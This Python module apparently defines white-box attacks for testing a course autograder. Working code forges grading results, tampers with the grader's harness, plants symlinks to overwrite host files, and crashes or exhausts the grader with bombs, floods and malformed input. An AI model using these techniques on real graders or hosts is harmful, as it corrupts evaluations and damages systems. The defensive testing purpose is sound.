"""White-box attacks on the grader: notebooks that try to earn points they did not earn, or to
reach the grading machine, knowing how the grader works (``autograder/harness.py``,
``execute.py``, ``sandbox.py``, ``compare.py``, ``grade.py``).

Not a test module: ``tests/test_attacks.py`` grades every attack in one batch. Each attack is
built on a SOLVED notebook (every blank filled from the source notebook's solution cells) with
only its target blank(s) emptied (the student's stub put back) or answered by the attacker's own
code, so that a cheat that works shows up as points: :func:`untouched` is what the same notebook
earns without the attack (the emptied blocks 0, every other block full). To keep the batch short,
a notebook (:class:`Host`, its student id) holds up to four attacks, always on different blocks,
so that each attack's points stay apart.

Each attack's docstring: first line what it does, second line what it earned on the old grader
(commit 0906cb6), which had no defence against any of them.

Some attacks write on the grading machine through symlinks they plant in their home and runtime
folders; :class:`Targets` says where: ``canary`` (a folder the test watches, made by
:func:`prepare`) and ``out`` (the grader's output folder). ``harness_via_startup_file`` goes for
the checkout's own ``autograder/harness.py``, found in ``/proc/self/mountinfo``: on a grader still
open to it, it breaks that file for the rest of the batch (it is graded last, in ``z90_checkout``;
the test puts the file back).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

import notebooks
from notebooks import FULL, SOLUTIONS, STUBS, insert_after, with_cell
from notebooks import gid as _gid

ANSWER_CELL = {
    "a": "double_conv",
    "b": "down",
    "c": "up",
    "d": "unet",
    "e": "cce_loss",
    "f": "train_step",
    "g": "predict_dice",
}
CANARY_TEXT = "canary: nothing may write here\n"


@dataclass(frozen=True)
class Targets:
    """Host paths the attacks aim at: a watched canary folder and the grader's OUT."""

    canary: Path
    out: Path

    def folder(self, attack: str) -> Path:
        return self.canary / attack


@dataclass(frozen=True)
class Attack:
    """One attack: what it adds to, or changes in, its host notebook.

    Attributes:
        name: the attack's name (its canary folder's too).
        blocks: the blanks it leaves empty or answers with its own code (0 in :func:`untouched`).
        description: one line.
        old: what it earned on the old grader (commit 0906cb6).
        apply: ``apply(nb, targets)`` changes the host notebook (its blocks already emptied).
        host: the student id of the notebook it is graded in (attacks share a notebook only when
            they target different blocks).
        review: the grader must flag its notebook for review (it reaches into the interpreter,
            the harness, the grader's files or the course package's answers).
        canary: files (``name``) or folders (``name/``) :func:`prepare` makes in its canary folder.
        restart: it needs the grader to restart the kernel (the host notebook then kills it).
    """

    name: str
    blocks: tuple[str, ...]
    description: str
    old: str
    apply: Callable[[object, Targets], object]
    host: str
    review: bool = True
    canary: tuple[str, ...] = ()
    restart: bool = False


ATTACKS: dict[str, Attack] = {}


def attack(
    name: str,
    blocks: str,
    host: str,
    review: bool = True,
    canary: tuple[str, ...] = (),
    restart: bool = False,
):
    """Register the decorated ``apply(nb, targets)`` as an attack; its docstring gives the
    description (first line) and what it earned on the old grader (second line)."""

    def register(apply):
        lines = [line.strip() for line in (apply.__doc__ or "").strip().splitlines()]
        ATTACKS[name] = Attack(
            name, tuple(blocks), lines[0], lines[1], apply, host, review, canary, restart
        )
        return apply

    return register


@dataclass(frozen=True)
class Host:
    """A notebook graded in the batch: one or more attacks on different blocks."""

    name: str
    attacks: tuple[Attack, ...]

    @property
    def blocks(self) -> tuple[str, ...]:
        return tuple(sorted({b for a in self.attacks for b in a.blocks}))

    @property
    def follower(self) -> str:
        """The student id of the correct notebook graded right after it."""
        return self.name.split("_", 1)[0] + "z_correct"

    @property
    def review(self) -> bool:
        return any(a.review for a in self.attacks)

    def notebook(self, targets: Targets):
        nb = solved(*self.blocks)
        for a in self.attacks:
            nb = a.apply(nb, targets)
        if any(a.restart for a in self.attacks):
            insert_after(nb, "data", KILL)
        return nb


def hosts() -> dict[str, Host]:
    """The notebooks of the batch, by student id."""
    found: dict[str, list[Attack]] = {}
    for a in ATTACKS.values():
        found.setdefault(a.host, []).append(a)
    for name, attacks in found.items():
        blocks = [b for a in attacks for b in a.blocks]
        assert len(blocks) == len(set(blocks)), f"{name}: two attacks on one block"
    return {name: Host(name, tuple(attacks)) for name, attacks in sorted(found.items())}


def untouched(x: Attack | Host | str) -> dict[str, int]:
    """Points per block of the notebook (an attack's: its host's) without the attack cells: the
    emptied blocks 0, every other block full."""
    if isinstance(x, str):
        x = ATTACKS[x] if x in ATTACKS else hosts()[x]
    blocks = hosts()[x.host].blocks if isinstance(x, Attack) else x.blocks
    return {b: 0 if b in blocks else p for b, p in FULL.items()}


def prepare(targets: Targets) -> None:
    """Make the canary files and folders of every attack."""
    for a in ATTACKS.values():
        for entry in a.canary:
            path = targets.folder(a.name) / entry
            if entry.endswith("/"):
                path.mkdir(parents=True, exist_ok=True)
                (path / "victim.txt").write_text(CANARY_TEXT)
            else:
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(CANARY_TEXT)


# ---- notebooks ----------------------------------------------------------------------------------


def solved(*empty: str):
    """The student notebook with every blank filled from the source notebook's solution, but the
    blanks of the blocks ``empty`` (their student stub)."""
    return notebooks.solved(*(ANSWER_CELL[b] for b in empty))


def solution(gid: str, *replace: tuple[str, str]) -> str:
    """The solution cell ``gid`` with text replaced (each ``old`` must be there)."""
    source = SOLUTIONS[gid]
    for old, new in replace:
        assert old in source, (gid, old)
        source = source.replace(old, new)
    return source


def append(nb, source: str):
    nb.cells.append(nbformat.v4.new_code_cell(source))
    return nb


PREDICT = """\
@torch.no_grad()
def predict(model, images):
    model.eval()
    return model(images).argmax(dim=1)
"""
TRAIN_STEP_BODY = """\
    model.train()
    optimizer.zero_grad()
    loss = loss_fn(model(images), labels)
    loss.backward()
    optimizer.step()
"""
# finds where the sandbox's folders come from on the grading machine: the sources of its bind
# mounts (home, runtime folder, the checkout's harness.py and unet_tp) are in mountinfo
MOUNTS = '''\
import os
import shutil
from pathlib import Path


def host_paths():
    """mount point inside -> path on the grading machine."""
    found = {}
    for line in Path("/proc/self/mountinfo").read_text().splitlines():
        fields = line.split()
        found[fields[4].replace("\\\\040", " ")] = fields[3].replace("\\\\040", " ")
    return found


def runtime_folder():
    """The kernel's runtime folder (mounted at its host path: it holds connection.json)."""
    return next(Path(p) for p in host_paths() if (Path(p) / "connection.json").is_file())


def plant(link, target):
    """Replace ``link`` by a symlink to ``target`` (a path of the grading machine)."""
    link = Path(link)
    link.parent.mkdir(parents=True, exist_ok=True)
    if link.is_dir() and not link.is_symlink():
        shutil.rmtree(link)
    elif link.is_symlink() or link.exists():
        link.unlink()
    link.symlink_to(target)


STARTUP = Path.home() / ".ipython" / "profile_default" / "startup" / "00-unet-tp-grading.py"
'''
# the checkout's harness.py (its folder's name left unwritten: the old grader flagged the word)
CHECKOUT_HARNESS = '''

def checkout_harness():
    """The grader's harness.py in the checkout: the source of its mount, else next to unet_tp."""
    mounts = host_paths()
    for inside, host in mounts.items():
        if inside.endswith("unet_tp_harness.py") or host.endswith("grader/harness.py"):
            return host
    for inside, host in mounts.items():
        if inside.endswith("/unet_tp"):
            return str(Path(host).parent / ("auto" "grader") / "harness.py")
    raise FileNotFoundError("the checkout is not mounted")
'''
KILL = "import os\n\nos.kill(os.getpid(), 9)  # restarted by the grader, which writes its files\n"


# ---- 1. the grader's probes as answers ----------------------------------------------------------


@attack("probes_as_answers", "bc", host="h01_harness_tables")
def _probes(nb, t: Targets):
    """Down, Up (and center_crop) return the harness's probe blocks (unet_tp_harness._PROBES).
    old main: (b) 2/2, (c) 2/3 (center_crop is asked before the probes are loaded: 0)"""
    with_cell(
        nb,
        "down",
        "import importlib\n\n\n"
        "class Down(nn.Module):\n"
        "    def __new__(cls, *args, **kwargs):\n"
        '        probes = importlib.import_module("unet_tp_harness")._PROBES\n'
        '        return probes["Down"](*args, **kwargs)\n',
    )
    return with_cell(
        nb,
        "up",
        "import importlib\n\n\n"
        "def center_crop(x, height, width):\n"
        '    probes = importlib.import_module("unet_tp_harness")._PROBES\n'
        '    return probes["center_crop"](x, height, width)\n\n\n'
        "class Up(nn.Module):\n"
        "    def __new__(cls, *args, **kwargs):\n"
        '        probes = importlib.import_module("unet_tp_harness")._PROBES\n'
        '        return probes["Up"](*args, **kwargs)\n',
    )


# ---- 2. facts forged through the harness's request table ---------------------------------------


@attack("forged_facts", "defg", host="h01_harness_tables")
def _forged(nb, t: Targets):
    """unet_tp_harness._KINDS wrapped: forged param_count, loss calls, train losses, Dice list.
    old main: (d) 4/4, (e) 4/4, (f) 3/3, (g) 2/2"""
    insert_after(
        nb,
        "setup",
        "import unet_tp_harness as _h\n\n\n"
        "def forge(kind, **facts):\n"
        "    real = _h._KINDS[kind]\n\n"
        "    def answer(namespace, meta, arrays):\n"
        "        out_meta, out_arrays = real(namespace, meta, arrays)\n"
        "        out_meta.update(facts)\n"
        "        return out_meta, out_arrays\n\n"
        "    _h._KINDS[kind] = answer\n\n\n"
        'forge("count", param_count=31_030_658)  # the number in the test cell of (d)\n'
        'forge("loss", calls=[])  # the loss calls F.cross_entropy\n'
        'forge("train_step", losses=[])  # train_step returns nothing\n'
        'forge("predict_dice", dice=[])  # dice_score is the stub\n',
    )
    # (d) hard-wired to 4 input channels: right on the BraTS cases, wrong parameter count
    with_cell(
        nb,
        "unet",
        solution(
            "unet",
            (
                "self.inc = DoubleConv(in_channels, widths[0], padding, batch_norm)",
                "self.inc = DoubleConv(4, widths[0], padding, batch_norm)",
            ),
        ),
    )
    with_cell(
        nb,
        "cce_loss",
        "def categorical_cross_entropy(logits, target, weight=None):\n"
        "    return F.cross_entropy(logits, target.long(), weight=weight)\n",
    )
    with_cell(
        nb,
        "train_step",
        "def train_step(model, images, labels, optimizer, loss_fn):\n" + TRAIN_STEP_BODY,
    )
    return with_cell(
        nb,
        "predict_dice",
        PREDICT + "\n\ndef dice_score(pred, truth):\n    raise NotImplementedError()\n",
    )


# ---- 3. NaN answers -----------------------------------------------------------------------------


@attack("nan_answers", "efg", host="h06_judged_numbers", review=False)
def _nan(nb, t: Targets):
    """NaN where a number is compared: loss gradient NaN, train_step returns nan, dice_score nan.
    old main: (e) 4/4, (f) 3/3, (g) 2/2"""
    with_cell(
        nb,
        "cce_loss",
        solution(
            "cce_loss",
            (
                "    ### BEGIN SOLUTION\n",
                "    ### BEGIN SOLUTION\n"
                "    if logits.requires_grad:  # the value is right, the gradient NaN\n"
                '        logits.register_hook(lambda grad: torch.full_like(grad, float("nan")))\n',
            ),
        ),
    )
    with_cell(
        nb, "train_step", solution("train_step", ("return loss.item()", 'return float("nan")'))
    )
    return with_cell(
        nb,
        "predict_dice",
        solution(
            "predict_dice",
            (
                "    pred, truth = pred.astype(bool), truth.astype(bool)\n",
                '    return float("nan")\n',
            ),
        ),
    )


@attack("dice_of_empty_masks_nan", "g", host="h07_notes_memory_empty_masks", review=False)
def _empty_nan(nb, t: Targets):
    """An honest bug: the Dice of two empty masks is 0/0 = NaN (NumPy), not the BraTS 1.0.
    old main: (g) 2/2"""
    return with_cell(
        nb,
        "predict_dice",
        solution("predict_dice", ("    if sizes == 0:\n        return 1.0  # both empty\n", "")),
    )


# ---- 4. answers changed after they left the sandbox ---------------------------------------------

HARD_LINKS = '''\
import contextlib
import io
import json

import numpy as np
import unet_tp_harness as _h

KEPT = Path.home() / ".kept"
KEPT.mkdir(exist_ok=True)
pending = []  # (hard link to an answer the grader took, its request)
_serve, _load_probes = _h.serve, _h.load_probes


def rewrite():
    """Rewrite the answers taken so far in place (same inode) with the probes' outputs."""
    if not _h._PROBES:
        return
    while pending:
        link, meta, arrays = pending.pop()
        names = {meta["name"]: _h._PROBES[meta["name"]]}
        kind = _h._module if meta["kind"] == "module" else _h._function
        with torch.enable_grad(), contextlib.redirect_stdout(io.StringIO()):
            out_meta, out_arrays = kind(names, meta, arrays)
        with open(link, "r+b") as f:
            f.truncate(0)
            np.savez(f, __meta__=np.array(json.dumps(out_meta)), **out_arrays)


def serve(request, answer):
    meta, arrays = _h.read_message(request)
    rewrite()
    _serve(request, answer)
    if meta.get("name") in {"DoubleConv", "center_crop", "Up"}:
        link = KEPT / f"{len(list(KEPT.iterdir()))}.npz"
        os.link(answer, link)  # the grader moves the answer out: a rename keeps the inode
        pending.append((link, meta, arrays))


def load_probes(path):
    _load_probes(path)
    rewrite()


_h.serve, _h.load_probes = serve, load_probes
'''


@attack("answers_rewritten_through_hard_links", "ac", host="h05_after_the_fact")
def _hard_links(nb, t: Targets):
    """serve hard-links its answers before the worker moves them out; rewritten once probes come.
    old main: (a) 2/2, (c) 3/3"""
    return insert_after(nb, "setup", MOUNTS + "\n\n" + HARD_LINKS)


# ---- 5. the grading machine's files written through planted symlinks ----------------------------


@attack("startup_file_symlink", "", host="h08_symlinks", canary=("victim.txt",), restart=True)
def _startup_symlink(nb, t: Targets):
    """The IPython start-up file becomes a symlink to a host file; the kernel is killed.
    old main: the canary file overwritten with the start-up code"""
    victim = t.folder("startup_file_symlink") / "victim.txt"
    return insert_after(nb, "setup", MOUNTS + f"\nplant(STARTUP, {str(victim)!r})\n")


@attack(
    "runtime_files_symlinks",
    "",
    host="h08_symlinks",
    canary=("victim-passwd.txt", "victim-group.txt", "victim-kernel-json.txt"),
    restart=True,
)
def _runtime_symlinks(nb, t: Targets):
    """passwd, group, kernels/unet-tp-sandbox/kernel.json of the runtime folder: host symlinks.
    old main: the three canary files overwritten (passwd, group, the kernel spec)"""
    folder = t.folder("runtime_files_symlinks")
    return insert_after(
        nb,
        "setup",
        MOUNTS
        + "\nrun = runtime_folder()\n"
        + f"plant(run / 'passwd', {str(folder / 'victim-passwd.txt')!r})\n"
        + f"plant(run / 'group', {str(folder / 'victim-group.txt')!r})\n"
        + "plant(run / 'kernels' / 'unet-tp-sandbox' / 'kernel.json', "
        + f"{str(folder / 'victim-kernel-json.txt')!r})\n",
    )


@attack("inbox_symlink", "", host="h08_symlinks", canary=("inbox/",))
def _inbox_symlink(nb, t: Targets):
    """The .grading inbox becomes a symlink to a host folder: the worker copies requests there.
    old main: its requests (reference weights) and the probes' source copied into the canary"""
    inbox = t.folder("inbox_symlink") / "inbox"
    return insert_after(
        nb, "setup", MOUNTS + f"\nplant(Path.home() / '.grading', {str(inbox)!r})\n"
    )


@attack("kernels_folder_into_out", "", host="z90_checkout", restart=True)
def _kernels_into_out(nb, t: Targets):
    """The runtime's kernels/ folder becomes a symlink to the grader's OUT; the kernel is killed.
    old main: OUT/unet-tp-sandbox/ left in OUT (the kernel.json in it removed after the batch)"""
    return insert_after(
        nb, "setup", MOUNTS + f"\nplant(runtime_folder() / 'kernels', {str(t.out)!r})\n"
    )


@attack("harness_via_startup_file", "", host="z90_checkout", restart=True)
def _harness(nb, t: Targets):
    """The start-up file becomes a symlink to the checkout's harness.py (found in mountinfo).
    old main: harness.py overwritten; the correct notebook graded after it: 0/20"""
    return insert_after(
        nb,
        "setup",
        MOUNTS + CHECKOUT_HARNESS + "\nplant(STARTUP, checkout_harness())\n",
    )


# ---- 6. the grader's memory ---------------------------------------------------------------------

BOMB = '''\
import json
import zipfile

import numpy as np
import unet_tp_harness as _h

_serve, bombed = _h.serve, []


def bomb(path, gib=1):
    """The answer again, plus gib GiB of zeros: about a megabyte once compressed."""
    meta, arrays = _h.read_message(path)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for key, value in {"__meta__": np.array(json.dumps(meta)), **arrays}.items():
            with zf.open(f"{key}.npy", "w", force_zip64=True) as f:
                np.lib.format.write_array(f, np.asanyarray(value))
        with zf.open("padding.npy", "w", force_zip64=True) as f:
            header = {"descr": "<f8", "fortran_order": False, "shape": (gib << 27,)}
            np.lib.format.write_array_header_1_0(f, header)
            zeros = bytes(64 << 20)
            for _ in range(gib << 4):
                f.write(zeros)


def serve(request, answer):
    _serve(request, answer)
    if not bombed:
        bombed.append(answer)
        bomb(answer)


_h.serve = serve
'''


@attack("decompression_bomb", "", host="h07_notes_memory_empty_masks")
def _bomb(nb, t: Targets):
    """serve's first answer carries 1 GiB of zeros, about 1 MB compressed: the grader inflates it.
    old main: the grading process's peak memory grew by 1.2 GiB in the batch"""
    return insert_after(nb, "setup", BOMB)


# ---- 7. library answers and the loss rule -------------------------------------------------------


@attack("library_answers", "efg", host="h04_library")
def _library(nb, t: Targets):
    """Loss from ATen's cross_entropy_loss, train_step = the kit's reference_step, dice from
    unet_tp.metrics.
    old main: (e) 4/4, (f) 3/3, (g) 2/2"""
    with_cell(
        nb,
        "cce_loss",
        "def categorical_cross_entropy(logits, target, weight=None):\n"
        "    # F.cross_entropy without its Python wrapper (reduction 1: the mean)\n"
        "    return torch._C._nn.cross_entropy_loss(logits, target.long(), weight, 1, -100, 0.0)\n",
    )
    with_cell(
        nb,
        "train_step",
        "from unet_tp.train import reference_step as train_step\n",
    )
    return with_cell(
        nb, "predict_dice", PREDICT + "\n\nfrom unet_tp.metrics import dice as dice_score\n"
    )


@attack("torch_function_disabled", "e", host="h05_after_the_fact")
def _disabled(nb, t: Targets):
    """F.cross_entropy called under torch._C.DisableTorchFunction: the call recorder sees nothing.
    old main: (e) 4/4"""
    return with_cell(
        nb,
        "cce_loss",
        "def categorical_cross_entropy(logits, target, weight=None):\n"
        "    with torch._C.DisableTorchFunction():\n"
        "        return F.cross_entropy(logits, target.long(), weight=weight)\n",
    )


@attack("notes_silenced", "", host="h07_notes_memory_empty_masks")
def _silenced(nb, t: Targets):
    """unet_tp_harness._note replaced by a no-op, then a network connection (not flagged).
    old main: not flagged for review"""
    return insert_after(
        nb,
        "setup",
        "import socket as _s\n\n"
        "import unet_tp_harness as _h\n\n"
        "_h._note = lambda *args, **kwargs: None\n"
        "try:\n"
        '    _s.create_connection(("93.184.215.14", 80), timeout=3).close()\n'
        "except OSError as exc:\n"
        '    print("no network:", exc)\n',
    )


# ---- own white-box attacks ----------------------------------------------------------------------


@attack("probe_module_globals", "bc", host="h02_introspection")
def _probe_globals(nb, t: Targets):
    """While Down/Up are graded DoubleConv is the probe: its __globals__ hold PROBES (ProbeDown...).
    old main: (b) 2/2, (c) 2/3"""
    with_cell(
        nb,
        "down",
        "class Down(nn.Module):\n"
        "    def __new__(cls, *args, **kwargs):\n"
        '        return DoubleConv.__init__.__globals__["PROBES"]["Down"](*args, **kwargs)\n',
    )
    return with_cell(
        nb,
        "up",
        STUBS["up"].split("class Up")[0] + "class Up(nn.Module):\n"
        "    def __new__(cls, *args, **kwargs):\n"
        '        return DoubleConv.__init__.__globals__["PROBES"]["Up"](*args, **kwargs)\n',
    )


@attack("harness_functions_replaced", "be", host="h03_harness_and_thread")
def _harness_functions(nb, t: Targets):
    """_substituted also puts the probe Down in place; _Calls records nothing (F.cross_entropy).
    old main: (b) 2/2, (e) 4/4"""
    insert_after(
        nb,
        "setup",
        "import contextlib\n\n"
        "import unet_tp_harness as _h\n\n"
        "_substituted = _h._substituted\n\n\n"
        "def substituted(namespace, replacements):\n"
        '    if "Down" in _h._PROBES:\n'
        '        replacements = {**replacements, "Down": _h._PROBES["Down"]}\n'
        "    return _substituted(namespace, replacements)\n\n\n"
        "class Calls:\n"
        "    def __init__(self, names):\n"
        "        self.seen, self.mode = set(), contextlib.nullcontext()\n\n\n"
        "_h._substituted, _h._Calls = substituted, Calls\n",
    )
    return with_cell(
        nb,
        "cce_loss",
        "def categorical_cross_entropy(logits, target, weight=None):\n"
        "    return F.cross_entropy(logits, target.long(), weight=weight)\n",
    )


@attack("fake_main_module", "c", host="h06_judged_numbers")
def _fake_main(nb, t: Targets):
    """sys.modules['__main__'] replaced: serve's namespace is a live view answering Up with ProbeUp.
    old main: (c) 2/3 (flagged for review: the cell names sys.modules)"""
    return insert_after(
        nb,
        "up",
        "import sys\n\n"
        "import unet_tp_harness as _h\n\n\n"
        "class Names:\n"
        '    """The notebook\'s names, live; Up is the grader\'s once its probes are loaded."""\n\n'
        "    def __init__(self, names):\n"
        "        self.names = names\n\n"
        "    def __getitem__(self, key):\n"
        '        if key == "Up" and "Up" in _h._PROBES:\n'
        '            return _h._PROBES["Up"]\n'
        "        return self.names[key]\n\n"
        "    def __contains__(self, key):\n"
        "        return key in self.names\n\n"
        "    def get(self, key, default=None):\n"
        "        return self.names.get(key, default)\n\n"
        "    def __setitem__(self, key, value):\n"
        "        self.names[key] = value\n\n"
        "    def pop(self, key, *default):\n"
        "        return self.names.pop(key, *default)\n\n\n"
        "NAMES = Names(get_ipython().user_ns)\n\n\n"
        "class Main:\n"
        "    __dict__ = property(lambda self: NAMES)\n\n\n"
        'sys.modules["__main__"] = Main()\n',
    )


@attack("caller_frame_tampered", "e", host="h02_introspection")
def _frame(nb, t: Targets):
    """The loss calls F.cross_entropy, then empties the recorder found in its caller's frame.
    old main: (e) 4/4"""
    return with_cell(
        nb,
        "cce_loss",
        "import inspect\n\n\n"
        "def categorical_cross_entropy(logits, target, weight=None):\n"
        "    loss = F.cross_entropy(logits, target.long(), weight=weight)\n"
        '    calls = inspect.currentframe().f_back.f_locals.get("calls")\n'
        "    if calls is not None:  # the grader's record of the torch functions called\n"
        "        calls.seen.clear()\n"
        "    return loss\n",
    )


@attack("thread_between_requests", "c", host="h03_harness_and_thread")
def _thread(nb, t: Targets):
    """A thread watches the namespace: when DoubleConv becomes the probe, it sets Up = ProbeUp.
    old main: (c) 2/3"""
    return insert_after(
        nb,
        "up",
        "import threading\n"
        "import time\n\n\n"
        "def watch(names):\n"
        "    while True:\n"
        '        probe = names.get("DoubleConv")\n'
        '        if getattr(probe, "__module__", "") == "unet_tp_probes":  # Down is being graded\n'
        '            names["Up"] = probe.__init__.__globals__["PROBES"]["Up"]  # kept for Up\n'
        "            return\n"
        "        time.sleep(0.002)\n\n\n"
        "threading.Thread(target=watch, args=(get_ipython().user_ns,), daemon=True).start()\n",
    )


@attack("answer_after_its_test", "a", host="h06_judged_numbers", review=False)
def _late(nb, t: Targets):
    """(a) left as the stub (its test cell fails); DoubleConv defined at the end of the notebook.
    old main: (a) 2/2"""
    return append(nb, SOLUTIONS["double_conv"])


@attack("count_on_the_meta_device", "d", host="h06_judged_numbers", review=False)
def _meta(nb, t: Targets):
    """A UNet hard-wired to 4 input channels, except on the meta device, where the count is made.
    old main: (d) 4/4"""
    return with_cell(
        nb,
        "unet",
        solution(
            "unet",
            (
                "        self.inc = DoubleConv(in_channels, widths[0], padding, batch_norm)",
                '        if torch.empty(0).device.type != "meta":  # a BraTS-only network\n'
                "            in_channels = 4\n"
                "        self.inc = DoubleConv(in_channels, widths[0], padding, batch_norm)",
            ),
        ),
    )


@attack("write_message_filtered", "f", host="h05_after_the_fact")
def _write_message(nb, t: Targets):
    """train_step returns the loss tensor; write_message drops the losses the harness cannot send.
    old main: (f) 3/3"""
    insert_after(
        nb,
        "setup",
        "import unet_tp_harness as _h\n\n"
        "_write = _h.write_message\n\n\n"
        "def write_message(path, meta, arrays):\n"
        '    if any(isinstance(x, str) for x in meta.get("losses", [])):\n'
        '        meta = {**meta, "losses": []}\n'
        "    _write(path, meta, arrays)\n\n\n"
        "_h.write_message = write_message\n",
    )
    return with_cell(
        nb,
        "train_step",
        "def train_step(model, images, labels, optimizer, loss_fn):\n"
        + TRAIN_STEP_BODY
        + "    return loss  # not loss.item()\n",
    )


# ---- new code (uncommitted, 2026-11-30): what the static reading and the answer reader miss ------


@attack("course_answers_through_aliases", "cefg", host="h20_course_package_aliases")
def _course_aliases(nb, t: Targets):
    """The course package's answers reached as attributes of an alias (no forbidden name written).
    new code (uncommitted, 2026-11-30): (c) 1/3, (e) 4/4, (f) 3/3, (g) 2/2, not flagged"""
    # center_crop: the check's own centre window (checks is imported by the locked set-up cell);
    # Up left as the stub
    up_stub = "class Up" + STUBS["up"].split("class Up", 1)[1]
    with_cell(nb, "up", "center_crop = checks._centre\n\n\n" + up_stub)
    # the loss: unet_tp.losses.LOSSES["ce"] is F.cross_entropy; "unet_tp.losses" never written
    with_cell(
        nb,
        "cce_loss",
        "import unet_tp as course\n"
        "import unet_tp.runs  # loads the training code, and with it its losses\n\n\n"
        "def categorical_cross_entropy(logits, target, weight=None):\n"
        '    return course.losses.LOSSES["ce"](logits, target.long(), weight)\n',
    )
    # the step: unet_tp.train.reference_step, in float32 (a float64 call raises on purpose: the
    # grader then asks again in float32, with its looser tolerance)
    with_cell(
        nb,
        "train_step",
        "import unet_tp as course\n"
        "import unet_tp.runs\n\n\n"
        "def train_step(model, images, labels, optimizer, loss_fn):\n"
        "    if images.dtype != torch.float32:\n"
        '        raise TypeError("mixed precision: float32 images only")\n'
        "    return course.train.reference_step(model, images, labels, optimizer, loss_fn)\n",
    )
    # the Dice: unet_tp.metrics.dice, re-exported by unet_tp.checks
    return with_cell(nb, "predict_dice", PREDICT + "\n\ndice_score = checks.exact_dice\n")


@attack("cross_entropy_by_attrgetter", "e", host="h21_strings_and_snapshot")
def _attrgetter(nb, t: Targets):
    """F.cross_entropy fetched by operator.attrgetter of a name joined at run time.
    new code (uncommitted, 2026-11-30): (e) 4/4, not flagged"""
    return with_cell(
        nb,
        "cce_loss",
        "import operator\n\n"
        'loss = operator.attrgetter("_".join(["cross", "entropy"]))(F)\n\n\n'
        "def categorical_cross_entropy(logits, target, weight=None):\n"
        "    return loss(logits, target.long(), weight=weight)\n",
    )


@attack("snapshot_rewritten", "a", host="h21_strings_and_snapshot")
def _snapshot(nb, t: Targets):
    """(a) left as the stub; DoubleConv written at the end and put into the harness's _SNAPSHOT.
    new code (uncommitted, 2026-11-30): (a) 2/2, not flagged (sys imported under another name)"""
    return append(
        nb,
        "import sys as interpreter\n\n"
        + SOLUTIONS["double_conv"]
        + '\n\ninterpreter.modules["unet_tp_harness"]._SNAPSHOT["DoubleConv"] = DoubleConv\n',
    )


NPY_HEADER_BOMB = '''\
import struct
import zipfile

import unet_tp_harness as _h

_serve, bombed = _h.serve, []


def bomb(path, gib=1):
    """An answer of one .npy member whose header says it is gib GiB long (spaces): about a
    megabyte once deflated. numpy reads a header whole before it checks its length."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        with zf.open("out.npy", "w", force_zip64=True) as f:
            f.write(b"\\x93NUMPY\\x02\\x00" + struct.pack("<I", gib << 30))
            spaces = b" " * (64 << 20)
            for _ in range(gib << 4):
                f.write(spaces)


def serve(request, answer):
    _serve(request, answer)
    if not bombed:
        bombed.append(answer)
        bomb(answer)


_h.serve = serve
'''


@attack("npy_header_bomb", "", host="h22_header_bomb")
def _header_bomb(nb, t: Targets):
    """serve's first answer: an .npy header declared 1 GiB long (spaces), 1 MB deflated.
    new code (uncommitted, 2026-11-30): the grading process's peak memory grew by about 2 GiB"""
    return insert_after(nb, "setup", NPY_HEADER_BOMB)


@attack("code_in_strings_through_ipython", "f", host="h21_strings_and_snapshot")
def _ipython_strings(nb, t: Targets):
    """train_step = unet_tp.train.reference_step, fetched by get_ipython().ev of a string.
    new code (uncommitted, 2026-11-30): (f) 3/3, not flagged (eval/exec/__import__ in a string)"""
    return with_cell(
        nb,
        "train_step",
        "def train_step(model, images, labels, optimizer, loss_fn):\n"
        "    if images.dtype != torch.float32:  # the grader asks again in float32\n"
        '        raise TypeError("mixed precision: float32 images only")\n'
        "    step = get_ipython().ev(\"__import__('unet_tp.train').train.reference_step\")\n"
        "    return step(model, images, labels, optimizer, loss_fn)\n",
    )


@attack("lone_surrogate_in_kept_output", "", host="h23_lone_surrogate", review=False)
def _surrogate(nb, t: Targets):
    """The training cell's kept output holds a lone surrogate: its feedback page cannot be written.
    new code (uncommitted, 2026-11-30): grade_all raised UnicodeEncodeError: no grades.csv at all

    After every notebook was graded, ``_write_outputs`` writes the feedback pages in text mode
    (UTF-8, strict): the kept output reaches the page unchanged, and the error stops the run
    before grades.csv, the gradebook and grading_state.json are written, for every student."""
    cell = next(c for c in nb.cells if _gid(c) == "training")
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="epoch 1 \ud800\n")]
    return nb


# how many times the name is defined: static._search appends every definition of a name each
# time the name is used (pop(0) of a list of K^2/2 entries): 1,000 took 61 s, 3,000 ~1.5 h
SEARCH_DEFINITIONS = 3000


@attack("static_search_blowup", "e", host="h24_static_search", review=False)
def _search_blowup(nb, t: Targets):
    """A name defined 3,000 times (w = w) used by the loss: static._search runs for hours.
    new code (uncommitted, 2026-11-30): 1,000 definitions: 61 s; 3,000: about 1.5 h (as K^4)

    In the grader's own thread, before the worker starts, under no timeout: the batch waits (the
    test has no time limit: the sign is this student's seconds in the progress line)."""
    insert_after(nb, "setup", "w = 1\n" + "w = w\n" * SEARCH_DEFINITIONS)
    return with_cell(
        nb,
        "cce_loss",
        "def categorical_cross_entropy(logits, target, weight=None):\n"
        "    raise NotImplementedError(w)\n",
    )


DISPLAY_FLOOD = """\
from IPython.display import HTML, display

page = HTML("x" * (16 << 20))
for i in range(64):  # 1 GiB: each output has its own display id, which the cap lets through
    display(page, display_id=f"kept-{i}")
"""


@attack("display_id_outputs_uncapped", "", host="h23_lone_surrogate", review=False)
def _display_flood(nb, t: Targets):
    """64 display outputs of 16 MiB, each with a display_id: the worker keeps all (1 GiB).
    new code (uncommitted, 2026-11-30): the worker process's memory grew past 2 GiB"""
    return insert_after(nb, "data", DISPLAY_FLOOD)


def deep_json_submission(depth: int = 5000) -> str:
    """A submission file (text, not a notebook object: ``json.dumps`` cannot write it) whose
    metadata nests ``depth`` lists: ``repair.read_submission`` catches only ``JSONDecodeError``,
    so ``json.loads``'s ``RecursionError`` leaves ``grade_submission`` and stops ``grade_all``.
    new code (uncommitted, 2026-11-30): grade_all raised RecursionError; OUT left empty

    Not registered with :func:`attack`: ``tests/test_attacks.py`` writes every notebook with
    ``json.dumps``, which fails on the same nesting. Write this text as a student's
    ``TP_sujet.ipynb`` to grade it (a huge integer literal, over 4,300 digits, does the same
    through ``ValueError``)."""
    text = json.dumps(solved(), indent=1)
    return text[: text.rindex("}")] + ', "x": ' + "[" * depth + "]" * depth + "\n}"


